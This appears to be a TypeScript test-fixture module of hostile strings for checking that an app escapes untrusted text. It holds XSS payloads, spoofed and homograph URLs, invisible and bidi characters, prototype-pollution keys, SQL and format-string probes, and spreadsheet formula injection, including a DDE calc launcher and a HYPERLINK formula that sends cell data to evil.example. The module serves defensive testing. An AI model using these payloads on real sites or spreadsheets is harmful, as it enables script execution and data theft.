/** Hostile texts, written for these tests: what a stranger may be called or write. Used by every test that shows, keeps or exports text. */

/** Sets `owned` on whatever page runs it; `nth` tells which string did. */
const run = (nth: number) => `(globalThis.owned??=[]).push(${nth})`

/** Markup and code for places that forget to escape: text, attributes, addresses, scripts, templates. */
export const MARKUP: readonly string[] = [
  `<script>${run(1)}</script>`,
  `<img src=x onerror="${run(2)}">`,
  `"><svg/onload=${run(3)}>`,
  `'><details open ontoggle=${run(4)}>`,
  `</textarea><script>${run(5)}</script>`,
  `</title><img src=x onerror=${run(6)}>`,
  `<iframe srcdoc="<script>parent.owned=[7]</script>"></iframe>`,
  `<a href="javascript:${run(8)}">press</a>`,
  `<style>@import'https://evil.example/x.css';*{background:url(https://evil.example/b)}</style>`,
  `<math><mtext><table><mglyph><style><img src=x onerror=${run(9)}>`,
  `<template><img src=x onerror=${run(10)}></template>`,
  `" onfocus="${run(11)}" autofocus="`,
  "' onmouseover='alert(1)",
  `\${${run(12)}} {{constructor.constructor("${run(13).replaceAll('"', "'")}")()}}`,
  `<base href="https://evil.example/"><form action=//evil.example><button>Send</button></form>`,
  `<meta http-equiv=refresh content="0;url=https://evil.example">`,
  "<!--<img src=--><img src=x onerror=alert(1)//>",
  `<object data="data:text/html,<script>${run(14)}</script>"></object>`,
  "&lt;img src=x onerror=alert(1)&gt; &amp;lt;b&amp;gt; &#x3C;script&#x3E;",
  "<ScRiPt\u0000>alert(1)</sCrIpT\u0000>",
  "\u2028\u2029</script><script>alert(1)</script>",
  "<b>bold</b><plaintext>",
]

/** Addresses that must not become links, or whose words lie about where they lead. */
export const ADDRESSES: readonly string[] = [
  "javascript:alert(document.cookie)",
  "JaVaScRiPt:alert(1)",
  "java\tscript:alert(1)",
  "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==",
  "vbscript:msgbox(1)",
  "file:///etc/passwd",
  "chrome-extension://abc/x.html",
  "blob:https://x.com/1",
  "https://x.com@evil.example/login",
  "https://x.com%2F@evil.example/",
  "https://evil.example\\@x.com/",
  "https://аррӏе.com/",
  "https://xn--80ak6aa92e.com/",
  "http://[::1]:65535/%00",
  "https://x.com.evil.example/?q=https://x.com",
  "https://evil.example/\u202Emoc.x//:sptth",
  `https://evil.example/${"a".repeat(5_000)}`,
  "https://",
  "http:///nothing",
]

/** Marks nobody sees, which turn, split or hide what is seen. */
export const MARKS: readonly string[] = [
  "\u202Egnp.tnemyap\u202C.exe",
  "\u2066\u2067\u2068isolates never closed",
  "\u202A\u202B\u202D\u202E embeddings never closed",
  "A\u200Bs\u200Ci\u200Dd\u2060e\uFEFF",
  "\u00AD\u034F\u115F\u1160\u17B4\u17B5\u3164\uFFA0",
  "Ad\u0000m\u0007i\u001B[31mn\u0085",
  "Ѕսрроrt",
  "\u{E0041}\u{E0044}\u{E004D}\u{E0049}\u{E004E}",
  "مرحبا <b>x</b> שלום (1)",
  "\uD800 lone, \uDC00 lone, \uDC00\uD800 turned round",
  `Z${"\u0300\u0315\u0489\u035F\u0361".repeat(60)}algo`,
  "👨‍👩‍👧‍👦".repeat(40),
  "\u{1F1E6}".repeat(31),
  "﷽".repeat(60),
  "\r\n\r\n\tA line\u2028and\u2029another\u000B\u000C",
  "   ",
  "\u3164",
]

/** What a spreadsheet would run. */
export const FORMULAS: readonly string[] = [
  '=HYPERLINK("https://evil.example?"&A1,"press")',
  "=cmd|' /C calc'!A0",
  "+cmd|' /C calc'!A0",
  "-2+3+cmd|' /C calc'!A0",
  "@SUM(1+1)*cmd|' /C calc'!A0",
  "\t=1+1",
  "\r=1+1",
  "\n=1+1",
  " =1+1",
  "\u00A0=1+1",
  "\u200B=1+1",
  "\uFEFF=1+1",
  "＝1+1",
  "＋1",
  "－1",
  "＠SUM(1)",
  '"=1+1"',
  "=1+1;=2+2",
  "%0A=1+1",
  "|=1",
]

/** Names that every object has, and that a careless table of names would find. */
export const INHERITED: readonly string[] = [
  "__proto__",
  "constructor",
  "prototype",
  "toString",
  "hasOwnProperty",
  "__defineGetter__",
  "valueOf",
]

/** Words for our own small languages: templates, references, searches, paths. */
export const WORDS: readonly string[] = [
  "{{handle}} {{ {{name}} }} {{__proto__}} }} {{",
  "https://twitter.com/messages/compose?recipient_id=1 https://twitter.com/messages/compose?recipient_id=2",
  "Ref K7Q2 ref:K7Q2 REF....K7Q2",
  "../../2/oauth2/token?x=%2e%2e",
  "' OR 1=1 --",
  "$& $1 $` $$ \\1",
  "%s%d%n%x {0}",
  "null",
  "NaN",
  "undefined",
]

/** All of the short ones. */
export const HOSTILE: readonly string[] = [...MARKUP, ...ADDRESSES, ...MARKS, ...FORMULAS, ...INHERITED, ...WORDS]

const fill = (unit: string, length: number) => unit.repeat(Math.ceil(length / unit.length)).slice(0, length)
/** What is filled with one thing, from a beginning to an end. */
const between = (begin: string, unit: string, end: string) => (length: number) =>
  begin + fill(unit, Math.max(0, length - begin.length - end.length)) + end

/** Texts of any length, of each kind that is known to be dear for patterns; many hold back at their end what a pattern waits for. */
export const HUGE: readonly (readonly [string, (length: number) => string])[] = [
  ["one letter", between("", "a", "")],
  ["blanks", between("", " ", "")],
  ["blanks, then a letter", between("a", " ", "a")],
  ["line ends", between("a", "\r\n", "a")],
  ["points between letters", between("", "a.", "")],
  ["schemes", between("", "https://", "")],
  ["links", between("", "https://a.example/b ", "")],
  ["short links", between("", "https://t.co/ab", "")],
  ["tags", between("", "<a href=", "")],
  ["a tag that never ends", between("<a ", "x ", "")],
  ["tags that never close", between("", "<a>x</a ", "")],
  ["braces", between("", "{{", "")],
  ["braces that close late", between("{{", " ", "x}}")],
  ["braces that never close", between("{{", " ", "")],
  ["entities", between("", "&amp;", "")],
  ["half entities", between("", "&amp", "")],
  ["marks", between("Z", "\u0300", "")],
  ["letters of Han", between("", "漢字", "")],
  ["emoji joined", between("", "👨‍👩‍👧‍👦\u200D", "")],
  ["turning marks", between("", "\u202E\u202C", "")],
  ["lone halves", between("", "\uD800", "")],
  ["points at the end of a link", between("https://a.example/", ".", "")],
  ["points, then a letter", between("https://a.example/", ".", "a")],
  ["brackets, then a letter", between("https://a.example/a", ")]}", "a")],
  ["marks at the end of a domain", between("a.example/", "!?", "a")],
  ["references", between("", "ref ", "")],
  ["digits and blanks", between("", "4 ", "x")],
  ["digits", between("", "4", "x")],
  ["points between digits", between("", "4.", "x")],
  ["at signs", between("", "a@", "")],
  ["points and letters of a mail", between("a@", "b.", "@")],
  ["hyphens", between("a", "-", ".")],
  ["a word of hyphens", between("", "a-", "@")],
  ["quotes", between("=", '"', "")],
]
